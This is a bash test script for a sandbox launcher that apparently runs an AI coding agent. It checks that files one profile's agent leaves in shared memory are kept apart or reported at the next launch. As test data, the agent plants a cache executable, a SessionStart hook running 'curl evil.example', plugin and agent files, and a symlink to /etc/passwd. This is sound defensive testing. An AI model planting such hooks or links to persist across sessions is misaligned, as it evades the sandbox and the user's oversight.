#!/usr/bin/env bash
# L35: profiles of one project have one memory and different rights: what the agent of one leaves there for that of
# another is apart, or is named at the next launch.
. "$(dirname "$0")/../lib.sh"
. "$CB_LIB/sandbox.sh"
sandbox_ready
home=$CB_USER_HOME box=$CB_USER_HOME/.claudebox
claudebox=$(launcher default)
api=$(launcher api)
state=$box/projects/$(printf %s "$project" | sha256sum | cut -c 1-16)

# other COMMAND: inside a sandbox of the second profile.
other() {
	as_user env --chdir="$project" "$api" --yes --shell -c "$1"
}

# --- caches ------------------------------------------------------------------------------------------

ok "a program is left in a cache" -- inside 'mkdir -p ~/.cache/tool && printf "#!/bin/sh\necho planted\n" >~/.cache/tool/run && chmod +x ~/.cache/tool/run'
is "$(inside '$HOME/.cache/tool/run')" planted "it is there in the next session of this profile"
is "$(as_user bwrap --ro-bind / / --bind "$state/caches/default" "$home" "$home/tool/run")" planted "and ran in any sandbox that was given the same cache"
is "$(other 'ls ~/.cache/tool/run 2>&1 | grep -c "No such file"')" 1 "it is not in that of another profile"
ok "which has a cache of its own" -- other 'echo mine >~/.cache/own'
is "$(ls "$state/caches"; cat "$state/caches/api/own")" $'api\ndefault\nmine' "beside it, below ~/.claudebox"
is "$(inside 'cat ~/.cache/own 2>&1 | grep -c "No such"; find / -xdev -name own 2>/dev/null')" 1 "out of the first one's reach"

# --- what runs something -----------------------------------------------------------------------------

# said_by LAUNCHER: what it says before a session, with the names alone.
said_by() {
	as_user env --chdir="$project" "$1" --yes --shell -c true 2>&1 | sed -n 's/^claudebox: note: //p'
}
shared='in ~/.claude, which other profiles write too, since this one.s last session: '
is "$(said_by "$claudebox"; said_by "$api")" "" "as long as nothing is there, nothing is said"
hook='{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil.example"}]}]}}'
ok "the agent of one profile plants a hook, an agent and a plugin" -- \
	inside "cd ~/.claude; echo '$hook' >settings.json; mkdir -p hooks agents plugins/p; echo x >hooks/h.sh; echo x >agents/a.md; echo x >plugins/p/plugin.json; echo x >settings.local.json; echo x >history.jsonl"
is "$(as_user bwrap --ro-bind / / --bind "$state/claude" "$home" cat "$home/settings.json")" "$hook" "a sandbox that has the memory unseen has the hook"
like "$(as_user env --chdir="$project" "$api" --dry-run)" "^note +new $shared" "L35: the audit of another profile says so"
is "$(said_by "$api" | sed -E "s|^new $shared||" | tr -d ' ' | tr , '\n' | sort | paste -sd' ')" "agents/a.md hooks/h.sh plugins/p/plugin.json settings.json settings.local.json" \
	"L35: and its launch, of each file that can run something, and of no other"
is "$(said_by "$api")" "" "once"
ok "they are changed, and one is a link" -- inside 'cd ~/.claude; echo y >hooks/h.sh; ln -sf /etc/passwd agents/a.md'
like "$(said_by "$api")" "^changed $shared(hooks/h.sh, agents/a.md|agents/a.md, hooks/h.sh)\$" "L35: what has changed is named too"
ok "what can be listed no more is named" -- inside 'chmod 0 ~/.claude/plugins'
like "$(said_by "$api")" "^new ${shared}plugins\$" "L35: as what it is in"
ok "the agent takes away the right to list all of it" -- inside 'chmod 300 ~/.claude'
exits 125 "L35: which refuses" -- as_user env --chdir="$project" "$api" --yes --shell -c true
like "$err" '^claudebox: refusing .*/claude \(Permission denied\)' "and says why"
as_user chmod 700 "$state/claude" "$state/claude/plugins"
is "$(inside 'find / -xdev -path "*/seen/*" 2>/dev/null'; as_user ls "$state/seen")" $'api\ndefault' "what is remembered is out of the agents' reach"
is "$(stat -c '%a %U' "$state/seen/api")" "600 $CB_USER" "and the user's own"

project=$(user_scratch)
cd "$project" || exit 1
ok "where one profile is used alone" -- inside "echo '$hook' >~/.claude/settings.json"
is "$(said_by "$claudebox")" "" "its own changes are not told"
as_user rm -r "$box/projects/$(printf %s "$project" | sha256sum | cut -c 1-16)/seen"
like "$(said_by "$claudebox")" "^new ${shared}settings.json\$" "but all that is there, where nothing is remembered"
done_testing
